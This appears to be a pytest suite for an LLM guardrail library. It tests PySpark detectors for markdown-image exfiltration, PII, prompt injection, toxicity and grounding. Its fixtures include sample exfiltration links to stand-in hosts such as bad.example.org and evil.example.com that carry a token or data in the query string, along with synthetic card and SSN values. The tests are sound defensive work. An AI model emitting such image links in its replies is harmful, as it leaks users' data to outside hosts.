import math
import random
import re
import time

import pytest
from pyspark.sql import functions as F

from bulwark.catalog import configure, default_config
from bulwark.operators import chain, offline, scoring
from bulwark.operators.detectors import exfiltration, models, pii, vectors


def one(spark, text, column):
    return spark.createDataFrame([(text,)], "t string").select(column.alias("x")).collect()[0].x


EXFIL = [
    ("Nothing to see in this reply.", []),
    ("Done ![ok](https://bad.example.org/p?q=TOKEN) bye", ["bad.example.org"]),
    ("![pixel](data:image/gif;base64,R0lGODlh)", []),
    ("![plan](/img/plan.svg)", []),
    ("![ours](https://cdn.example.com/a.webp)", []),
    ("![a](HTTPS://CDN.Example.com:8443/logo.png)", []),
    ("![a](http://user:pw@Evil.example.com:80/x)", ["evil.example.com"]),
    ("![a](https://cdn.example.com@evil.example.com/x)", ["evil.example.com"]),
    ("![a](https:evil.example.com)", [None]),
    ("![a](http://[::1]:9/x)", ["::1"]),
    ('![a](https://e.example.com/x "title") and ![b](https://f.example.com)', ["e.example.com", "f.example.com"]),
    ("[not an image](https://e.example.com)", []),
    ("![a](ftp://e.example.com)", []),
    ("![a](https://e.example.com/x y)", []),
    ("![two\nlines](https://e.example.com)", ["e.example.com"]),
]


@pytest.mark.parametrize("text,hosts", EXFIL)
def test_exfiltration(spark, text, hosts):
    found = one(spark, text, exfiltration.matches(F.col("t"), ("cdn.example.com",)))
    assert [m.host for m in found] == hosts
    stripped = one(spark, text, exfiltration.stripped(F.col("t"), ("cdn.example.com",)))
    assert stripped.count(exfiltration.MARKER) == len(hosts)
    if not hosts:
        assert stripped == text


def test_strip_keeps_the_rest(spark):
    text = "Before ![x](https://evil.example.com/x?d=1) between ![k](/keep.png) after"
    stripped = one(spark, text, exfiltration.stripped(F.col("t")))
    assert stripped == f"Before {exfiltration.MARKER} between ![k](/keep.png) after"


def test_exfiltration_skips_empty_output(spark):
    df = spark.createDataFrame([(None,), ("",), ("hi",)], "output_text string")
    assert [r.score for r in exfiltration.detect(df).collect()] == [None, None, 0.0]


PII = [
    ("mail me at a.b+c@mail.example.com now", {("EMAIL_ADDRESS", "a.b+c@mail.example.com")}),
    ("card 4539 1488 0343 6467 ok", {("CREDIT_CARD", "4539 1488 0343 6467")}),
    ("card 4539 1488 0343 6468 bad", set()),
    ("amex 378282246310005", {("CREDIT_CARD", "378282246310005")}),
    ("ssn 123-45-6789.", {("US_SSN", "123-45-6789")}),
    ("x123-45-6789", set()),
    ("call +1 (743) 555-3824", {("PHONE_NUMBER", "1 (743) 555-3824")}),
    ("call 212-555-0187 today", {("PHONE_NUMBER", "212-555-0187")}),
    ("host 10.0.0.255 up, 10.0.0.256 not", {("IP_ADDRESS", "10.0.0.255")}),
    ("iban GB82WEST12345698765432 ok", {("IBAN_CODE", "GB82WEST12345698765432")}),
    ("iban GB82WEST12345698765433 bad", set()),
    ("see https://example.com/a?b=1 there", {("URL", "https://example.com/a?b=1")}),
    ("licence BB1388568 valid", {("MEDICAL_LICENSE", "BB1388568")}),
    ("licence BB1388569 not", set()),
    ("On Monday in Paris", set()),
]


@pytest.mark.parametrize("text,want", PII)
def test_pii_entities(spark, text, want):
    found = one(spark, text, pii.entities(F.col("t")))
    assert {(e.type, e.match) for e in found} == want
    redacted = one(spark, text, pii.redacted(F.col("t")))
    for kind, match in want:
        assert match not in redacted and f"<{kind}>" in redacted
    if not want:
        assert redacted == text


def test_pii_threshold_types_and_score(spark):
    df = spark.createDataFrame([("a@b.example.com 1.2.3.4",), ("nothing",)], "text string")
    assert [r.score for r in pii.scan(df).collect()] == [1.0, 0.0]
    assert [r.score for r in pii.scan(df, threshold=0.9, types=["IP_ADDRESS"]).collect()] == [0.0, 0.0]
    assert [r.score for r in pii.scan(df, types=["IP_ADDRESS"]).collect()] == [0.6, 0.0]
    low = one(spark, "account 12345678", pii.entities(F.col("t"), threshold=0.05))
    assert {e.type for e in low} >= {"US_BANK_NUMBER"}


def test_pii_spans(spark):
    email = next(p for p in pii.PATTERNS if p.type == "EMAIL_ADDRESS")
    text = "é a@b.example.com and c@d.example.com"
    for s in one(spark, text, pii.spans(F.col("t"), email)):
        assert text[s.start : s.end] == s.match


def test_injection_label_is_case_insensitive(spark):
    df = spark.createDataFrame([({"injection": 0.9, "LEGIT": 0.1},), ({"LEGIT": 1.0},)], "m map<string,double>")
    assert [r.x for r in df.select(models.injection_probability(F.col("m")).alias("x")).collect()] == [0.9, 0.0]


def test_toxicity_any_all_none(spark):
    df = spark.createDataFrame([({"toxicity": 0.9, "threat": 0.2, "obscenity": 1.0},)], "m map<string,double>")
    m = F.col("m")
    row = df.select(
        models.toxicity(m).alias("a"), models.toxicity(m, flag_on="all").alias("b"), models.toxicity(m, ("insult",)).alias("c")
    ).collect()[0]
    assert (row.a, row.b, row.c) == (0.9, 0.2, 0.0)


def test_grounding_opposite_ends(spark):
    pairs = spark.createDataFrame([(1, 0, 0.9), (1, 1, 0.2)], "id long, pos int, consistency double")
    row = models.grounding(pairs, ["id"]).collect()[0]
    assert row.hallucination == pytest.approx(0.8) and row.faithfulness == pytest.approx(0.9)
    assert models.per_document(pairs, ["id"]).collect()[0].per_document == [0.9, 0.2]


def test_grounding_with_contradiction_scores(spark):
    pairs = spark.createDataFrame([(1, 0.7, 0.1), (1, 0.3, 0.6)], "id long, entail double, contra double")
    row = models.grounding(pairs, ["id"], "entail", "contra").collect()[0]
    assert (row.hallucination, row.faithfulness) == (0.6, 0.7)


def test_similarity_edges(spark):
    df = spark.createDataFrame(
        [(1, [1.0, 0.0], [0.0, 1.0]), (2, [1.0, 1.0], [-1.0, -1.0]), (3, [0.0, 0.0], [1.0, 0.0]), (4, None, [1.0, 0.0])],
        "id int, a array<float>, b array<float>",
    )
    topics = [[1.0, 0.0], [0.0, -1.0]]
    rows = df.select(
        "id",
        vectors.topic_similarity(F.col("a"), topics).alias("t"),
        vectors.relevance(F.col("a"), F.col("b")).alias("r"),
        vectors.topic_similarity(F.col("a"), []).alias("none"),
    ).orderBy("id").collect()
    assert [None if r.t is None else round(r.t, 6) for r in rows] == [1.0, round(1 / math.sqrt(2), 6), 0.0, None]
    assert [r.r for r in rows] == [0.0, 0.0, 0.0, None]
    assert {r.none for r in rows} == {1.0}


def _explode(_, texts):
    if "bad" in texts:
        raise ValueError("bad text")
    return [float(len(t)) for t in texts]


def test_scorer_fails_open_per_row_and_covers_copies(spark):
    df = spark.createDataFrame([(i, t) for i, t in enumerate(["a", "bad", "ccc", "a", "a"])], "id int, input_text string")
    scorer = scoring.Scorer("x", score_batch=_explode)
    rows = {r.id: (r.score, r.error) for r in scoring.score(df, scorer).collect()}
    assert rows == {0: (1.0, None), 1: (None, "bad text"), 2: (3.0, None), 3: (1.0, None), 4: (1.0, None)}


def test_scorer_sees_each_distinct_text_once(spark):
    seen = spark.sparkContext.accumulator(0)

    def count(_, texts):
        seen.add(len(texts))
        return [0.5] * len(texts)

    df = spark.range(3000).select((F.col("id") % 7).cast("string").alias("input_text"))
    scored = scoring.score(df, scoring.Scorer("counted", score_batch=count))
    assert scored.where("score = 0.5").count() == 3000
    assert seen.value == 7


def test_output_scorer_skips_without_output_or_context(spark):
    df = spark.createDataFrame(
        [("", ["d"]), (None, ["d"]), ("x", []), ("x", None), ("x", ["d"])],
        "output_text string, context_documents array<string>",
    )
    expr = scoring.Scorer("hallucination", ("output_text",), "output", expr=lambda c: F.lit(0.4))
    rows = scoring.score(df, expr).collect()
    assert [r.skipped for r in rows] == ["no output_text"] * 2 + ["no context_documents"] * 2 + [None]
    assert [r.score for r in rows] == [None] * 4 + [0.4]


def test_offline_output_runs_although_input_blocks(spark):
    df = spark.createDataFrame([(1, "in", "out"), (2, "in", None)], "request_id int, input_text string, output_text string")
    high = scoring.Scorer("prompt_injection", score_batch=lambda m, t: [0.95] * len(t))
    tox = scoring.Scorer("toxicity", ("output_text",), "output", score_batch=lambda m, t: [0.9] * len(t))
    rows = {r.request_id: r for r in offline.evaluate(df, [high, tox]).collect()}
    assert rows[1].blocked and rows[1].flags == ["prompt_injection", "toxicity"] and not rows[1].passed
    assert rows[2].scores["toxicity"] is None and rows[2].flags == ["prompt_injection"]


def test_offline_error_counts_as_no_score(spark):
    def boom(m, t):
        raise RuntimeError("model down")

    df = spark.createDataFrame([(1, "in", "out")], "request_id int, input_text string, output_text string")
    scorer = scoring.Scorer("toxicity", ("output_text",), "output", score_batch=boom)
    row = offline.evaluate(df, [scorer]).collect()[0]
    assert row.error == "toxicity: model down" and row.passed and row.scores["toxicity"] is None


def test_live_guard_spares_models_what_is_blocked(spark):
    df = spark.createDataFrame(
        [("1", "mail a@b.example.com", "out"), ("2", "attack", "out"), ("3", "fine", "![x](https://e.example.com)")],
        "request_id string, input_text string, output_text string",
    )
    seen = spark.sparkContext.accumulator(0)

    def inject(m, texts):
        seen.add(len(texts))
        return [0.9 if t == "attack" else 0.1 for t in texts]

    scorer = scoring.Scorer("prompt_injection", score_batch=inject, version="count")
    config = configure({"pii": {"action": "block"}}, default_config())
    calls = offline.guard(df, [scorer], config=config)
    wide = {r.request_id: r for r in chain.assemble(chain.replay(calls, config)).collect()}
    assert seen.value == 2 and wide["1"].score_prompt_injection is None
    assert wide["1"].block_reason == "pii_detected" and wide["2"].block_reason == "prompt_injection_detected"
    assert wide["1"].score_exfiltration is None and wide["2"].score_exfiltration is None
    assert wide["3"].score_exfiltration == 1.0 and not wide["3"].blocked
    shadow = offline.guard(df, [scorer], config=config, enforce=False, cheap_first=False)
    assert shadow.where("evaluator = 'exfiltration' AND score IS NOT NULL").count() == 3


def test_failed_load_is_tried_once_and_short_lists_are_errors(spark):
    tries = spark.sparkContext.accumulator(0)

    def load():
        tries.add(1)
        raise OSError("no weights")

    df = spark.createDataFrame([(i, f"t{i}") for i in range(3)], "id int, input_text string").coalesce(1)
    lost = scoring.Scorer("lost", load=load, score_batch=lambda m, t: [0.0] * len(t), version="once")
    rows = scoring.score(df, lost).collect()
    assert {(r.score, r.error) for r in rows} == {(None, "model not loaded: no weights")} and tries.value == 1
    short = scoring.Scorer("short", score_batch=lambda m, t: [0.5] * (len(t) - 1), version="short")
    assert {(r.score, r.error) for r in scoring.score(df, short).collect()} == {(None, "0 scores for 1 rows")}


def test_one_failed_document_leaves_no_score(spark):
    pairs = spark.createDataFrame(
        [(1, 0, None, "boom", 3), (1, 1, 0.9, None, 4), (2, 0, 0.4, None, 5)],
        "id int, pos int, consistency double, error string, latency_ms int",
    )
    rows = {r.id: r for r in models.grounding(pairs, ["id"]).collect()}
    assert (rows[1].hallucination, rows[1].faithfulness, rows[1].error, rows[1].latency_ms) == (None, None, "boom", 7)
    assert rows[2].faithfulness == 0.4 and rows[2].error is None


def test_vectors_of_other_widths_have_errors(spark):
    df = spark.createDataFrame(
        [(1, [1.0, 0.0], [1.0, 0.0, 0.0]), (2, [1.0], [1.0]), (3, None, [1.0]), (4, [1.0, None], [1.0, 0.0]), (5, [], [])],
        "id int, a array<float>, b array<float>",
    )
    rows = {r.id: r for r in vectors.topic_guardrail(df, "a", [[1.0, 0.0]]).collect()}
    assert rows[1].score == 1.0 and rows[1].error is None
    assert [rows[i].score for i in (2, 3, 4, 5)] == [None] * 4
    assert [rows[i].error for i in (2, 3, 4)] == ["vector of width 1, not 2", "no vector", "vector with a missing number"]
    related = {r.id: r.s for r in df.select("id", vectors.relevance(F.col("a"), F.col("b")).alias("s")).collect()}
    assert related == {1: None, 2: 1.0, 3: None, 4: None, 5: 0.0}


def test_scoring_moves_text_once_per_group(spark):
    """Without broadcasts, texts cross the network once per group of models; the rest is hashes."""
    df = spark.createDataFrame([(str(i), f"in{i}", f"out{i}") for i in range(20)], "request_id string, input_text string, output_text string")
    a = scoring.Scorer("prompt_injection", score_batch=lambda m, t: [0.1] * len(t))
    b = scoring.Scorer("toxicity", ("output_text",), "output", score_batch=lambda m, t: [0.1] * len(t))
    before = spark.conf.get("spark.sql.autoBroadcastJoinThreshold")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        scored = scoring.score_all(df, [a, b], keep=["request_id"])
        plan = scored._jdf.queryExecution().executedPlan().toString()
        rows = scored.collect()
    finally:
        spark.conf.set("spark.sql.autoBroadcastJoinThreshold", before)
    assert len(rows) == 20 and {(r.score_prompt_injection, r.score_toxicity) for r in rows} == {(0.1, 0.1)}
    lines = plan.splitlines()
    moved = [lines[i + 1] for i, line in enumerate(lines) if "Exchange hashpartitioning" in line]
    as_column = re.compile(r"[\[ ](input|output)_text#\d+[,\]]")  # not inside a function
    assert moved and sum(bool(as_column.search(line)) for line in moved) <= 2


# Written by hand from the formats themselves, not from the patterns.
GOLDEN_ENTITIES = [
    ("see https://a.example.com/x?y=1 now", ["URL:https://a.example.com/x?y=1"]),
    ("write to first.last+tag@sub.example.org.", ["EMAIL_ADDRESS:first.last+tag@sub.example.org"]),
    ("a@b.com.x@y.org", ["EMAIL_ADDRESS:a@b.com", "EMAIL_ADDRESS:.x@y.org"]),
    ("IBAN GB82WEST12345698765432 ok", ["IBAN_CODE:GB82WEST12345698765432"]),
    ("IBAN GB82WEST12345698765433 bad", []),
    ("card 4111 1111 1111 1111 ok", ["CREDIT_CARD:4111 1111 1111 1111"]),
    ("card 4111 1111 1111 1112 bad", []),
    ("amex 378282246310005 ok", ["CREDIT_CARD:378282246310005"]),
    ("ssn 123-45-6789 ok", ["US_SSN:123-45-6789"]),
    ("call 212-555-0142 or 1 (212) 555-0142", ["PHONE_NUMBER:212-555-0142", "PHONE_NUMBER:1 (212) 555-0142"]),
    ("host 192.168.0.254, not 300.1.1.1", ["IP_ADDRESS:192.168.0.254"]),
    ("licence AB1234563, not AB1234564", ["MEDICAL_LICENSE:AB1234563"]),
    ("nothing here, 12:30, v1.2.3", []),
]


@pytest.mark.parametrize("text,expected", GOLDEN_ENTITIES)
def test_golden_entities(spark, text, expected):
    found = one(spark, text, pii.entities(F.col("t")))
    assert sorted(f"{e.type}:{e.match}" for e in found) == sorted(expected)
    placed = one(spark, text, pii.located(F.col("t")))
    assert sorted(f"{e.type}:{e.match}" for e in placed) == sorted(expected)
    assert all(text[e.start : e.end] == e.match for e in placed)


def test_model_entities_and_overlaps(spark):
    text = "Jane Doe jane.doe@x.example.com met Bob é Ann"
    extra = [
        ("PERSON", 0.85, 0, 8), ("PERSON", 0.9, 9, 13), ("DATE_TIME", 0.99, 0, 4), ("PERSON", 0.3, 36, 39),
        ("NRP", 0.7, 36, 41), ("PERSON", 0.7, 40, 45), ("PERSON", 0.9, 44, 99),
    ]
    df = spark.createDataFrame([(text, extra), (text, None)], "t string, e array<struct<type:string,score:double,start:int,end:int>>")
    rows = pii.scan_spans(df, "t", "e").withColumn("r", pii.redacted_spans(F.col("t"), F.col("entities"))).collect()
    assert [(e.type, e.start, e.end) for e in rows[0].entities] == [("PERSON", 0, 8), ("EMAIL_ADDRESS", 9, 31), ("NRP", 36, 41)] or [
        (e.type, e.start, e.end) for e in rows[0].entities
    ] == [("PERSON", 0, 8), ("EMAIL_ADDRESS", 9, 31), ("PERSON", 40, 45)]
    assert rows[0].score == 1.0 and rows[0].r.startswith("<PERSON> <EMAIL_ADDRESS> met ")
    assert [(e.type, e.start) for e in rows[1].entities] == [("EMAIL_ADDRESS", 9)]


def test_overlaps_against_a_plain_version(spark):
    """Spans of random places, one text of no span and one of more than a block."""
    rng = random.Random(6)

    def spans(n):
        starts = [rng.randrange(4 * n) for _ in range(n)]
        return [(a, a + rng.randint(1, 9), rng.choice("AB"), rng.choice((0.5, 0.9)), "m") for a in starts]

    def plain(found):
        kept = []
        for new in sorted(found):
            if not kept or kept[-1][1] <= new[0]:
                kept.append(new)
            elif (new[3], new[1] - new[0]) > (kept[-1][3], kept[-1][1] - kept[-1][0]):
                kept[-1] = new
        return kept

    cases = [spans(n) for n in (0, 1, 2, 5, 40, 255, 256, 257, 700)]
    df = spark.createDataFrame(list(enumerate(cases)), f"no long, found array<{pii.SPAN}>")
    for row in df.select("no", pii.resolved(F.col("found")).alias("kept")).collect():
        assert [tuple(s) for s in row["kept"]] == plain(cases[row["no"]])


def test_many_entities_in_one_text(spark):
    count = 20_000
    text = " ".join(f"é a{i}@example.com" for i in range(count))
    df = spark.createDataFrame([(1, text), (2, None), (3, "")], "id long, t string")
    began = time.monotonic()
    found = pii.scan_spans(df, "t").withColumn("r", pii.redacted_spans(F.col("t"), F.col("entities")))
    rows = {r["id"]: r for r in found.collect()}
    assert rows[1]["r"] == " ".join(["é <EMAIL_ADDRESS>"] * count)
    assert [text[e["start"] : e["end"]] for e in rows[1]["entities"]] == [f"a{i}@example.com" for i in range(count)]
    assert rows[3]["r"] == "" and rows[3]["entities"] == [] and rows[2]["r"] is None
    assert time.monotonic() - began < 60
